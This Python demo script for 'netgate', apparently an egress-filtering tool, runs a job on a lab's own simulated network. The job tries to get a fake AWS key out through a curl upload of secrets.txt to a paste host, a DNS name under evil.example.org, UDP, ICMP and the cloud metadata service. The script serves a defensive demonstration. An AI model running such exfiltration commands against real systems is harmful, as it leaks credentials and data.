# SPDX-License-Identifier: Apache-2.0
"""make demo: what netgate does, in a minute, on an internet of the lab's own.

A job does one thing that it was hired for and five that it was not. It runs twice, first without netgate, so that one
can see what the internet got each time.
"""

import os
import subprocess
import sys

from . import METADATA, UDP_ECHO, Lab, read_log, v4
from .run import MARK, TIMEOUT

SECRET = "aws-key-1234"
ALLOWED = "api.example.com"
ADDRESSES = {ALLOWED: v4("web"), "paste.example.org": v4("other"), f"{SECRET}.evil.example.org": v4("other")}

JOB = f"""
step() {{ echo; echo "$BOLD$1$PLAIN"; echo "  \\$ $2"; sh -c "$2" 2>&1 | head -n 2 | sed 's/^/  /'; }}
step "1. HTTPS to the host it may talk to"            "curl -sS https://{ALLOWED}/hello"
step "2. HTTPS to another one, with a file"           "curl -sS -d @secrets.txt https://paste.example.org/"
step "3. A secret inside a DNS name"                  "getent hosts {SECRET}.evil.example.org || echo 'not found'"
step "4. UDP"                                         "python3 udp.py {v4('raw')} {UDP_ECHO}"
step "5. ICMP"                                        "ping -c 1 -W 1 {v4('raw')}"
step "6. The cloud's metadata service"                "curl -sS http://{METADATA}/latest/meta-data/"
"""

UDP = f"""import socket, sys
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect((sys.argv[1], int(sys.argv[2])))
sock.settimeout(10)
try:
    sock.send(b"{SECRET}")
    print("answer:", sock.recv(100).decode())
except OSError as error:
    print(error.strerror or error)
"""

COLOUR = sys.stdout.isatty()
BOLD, DIM, RED, GREEN, PLAIN = (f"\033[{code}m" if COLOUR else "" for code in (1, 2, 31, 32, 0))


def heading(text):
    print(f"\n{BOLD}── {text} {'─' * max(3, 100 - len(text))}{PLAIN}", flush=True)


def start(lab):
    """The names of this internet, and the job's workspace."""
    for name, address in ADDRESSES.items():
        lab.dns.add(name, a=[address])
    workspace = lab.workspace()
    for name, text in (("job.sh", JOB), ("udp.py", UDP), ("secrets.txt", SECRET)):
        with open(os.path.join(workspace, name), "w") as out:
            out.write(text)
    return workspace


def without_netgate(lab, workspace):
    with lab.capture() as capture:
        subprocess.run(lab.host.command(["sh", "job.sh"], cwd=workspace), env=lab.environment(workspace),
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=TIMEOUT, check=False)
    return capture


def with_netgate(lab, workspace, log):
    """On the terminal itself, as one would run it."""
    env = lab.environment(workspace) | {"BOLD": BOLD, "PLAIN": PLAIN, MARK: "demo"}
    netgate = os.path.join(lab.programs(), "netgate")
    with lab.capture() as capture:
        done = subprocess.run(lab.host.command([netgate, "--allow", ALLOWED, "--log", log, "--job", "demo", "--",
                                                "sh", "job.sh"], cwd=workspace), env=env, timeout=TIMEOUT, check=False)
    return done.returncode, capture


def describe(record):
    """A record's members that a person looks at first."""
    kind = record["type"]
    if kind == "start":
        return f"{record['rules']} rule, mode {record['mode']}"
    if kind == "decision":
        colour = GREEN if record["verdict"] == "allow" else RED
        what = record.get("host") or record.get("raw_name") or record["dst"]
        port = f":{record['port']}" if record["door"] != "dns" and "port" in record and "host" in record else ""
        detail = record.get("qtype") or record.get("path")
        what += port + (f" {detail}" if detail else "")
        why = record["reason"] if record["reason"] != "rule" else record["rule"]
        return f"{colour}{record['verdict']:5}{PLAIN} {record['proto']:4} {what}  {DIM}{why}{PLAIN}"
    if kind == "dial":
        return f"{record.get('host', '')} at {record['addr']}: {record['outcome']}"
    if kind == "close":
        return f"{record.get('host', '')}: {record['up']} bytes up, {record['down']} down, ended by {record['end']}"
    if kind == "drop":
        where = record.get("dst", "") + (f":{record['port']}" if "port" in record else "")
        packets = "packet" if record["count"] == 1 else "packets"
        return f"{RED}deny {PLAIN} {record.get('proto', ''):4} {where}, {record['count']} {packets}  {DIM}{record['reason']}{PLAIN}"
    if kind == "process":
        if "unknown" in record:
            return f"{DIM}unknown: {record['unknown']}{PLAIN}"
        return f"{DIM}by{PLAIN} {record.get('exe', '')}  {DIM}pid {record['pid']}, from {record.get('src', '')}{PLAIN}"
    if kind == "gap":
        return f"{record['lost']} records before this one could not be written"
    if kind == "end":
        return f"exit {record.get('exit')}, {record['allowed']} allowed, hash chain before this record {record['head'][:16]}…"
    raise ValueError(f"the demo cannot describe a record of type {kind}")


def show_capture(title, capture):
    """Each destination once, with what it is."""
    names = {address: name for name, address in ADDRESSES.items()} | {
        v4("dns"): "the name server", v4("raw"): "somebody's server", METADATA: "the metadata service"}
    names[v4("other")] = "paste.example.org"
    seen = {}
    for packet in capture.packets:
        key = (packet.proto, packet.dst, packet.dport)
        seen[key] = seen.get(key, 0) + 1
    secret = capture.contains(SECRET.encode())
    print(f"{title}: the secret {RED + 'got out' if secret else GREEN + 'did not get out'}{PLAIN}")
    for (proto, address, port), count in seen.items():
        where = f"{address}:{port}" if port else address
        print(f"  {count:3} packets  {proto:4} {where:20} {names.get(address, '')}")
    return secret


def main():
    if os.geteuid() != 0:
        sys.exit("demo: it makes network namespaces for its own little internet and so needs root: sudo make demo")
    with Lab() as lab:
        workspace = start(lab)
        log = os.path.join(lab.folder, "demo.jsonl")
        before = without_netgate(lab, workspace)
        heading(f"netgate --allow {ALLOWED} -- sh job.sh")
        print("A job was hired to talk to one host. It tries that, and five ways to take a secret elsewhere.", flush=True)
        status, after = with_netgate(lab, workspace, log)
        records = read_log(log)
        heading("What the log says (JSON Lines; the members that matter)")
        for record in records:
            print(f"  {record['seq']:3} {record['type']:8} {describe(record)}")
        print("  The head that netgate printed above covers every record, `end` too; the one in `end` covers those before it.")
        heading("What the internet saw of the same job")
        leaked_before = show_capture("without netgate", before)
        leaked = show_capture("with netgate   ", after)
    # The demo is also a test of itself: without a leak to stop, it would show nothing.
    expected = leaked_before and not leaked and status != 125 and {packet.dst for packet in after.packets} == {
        v4("dns"), ADDRESSES[ALLOWED]}
    if not expected:
        sys.exit("demo: this is not what was to be shown")


if __name__ == "__main__":
    main()
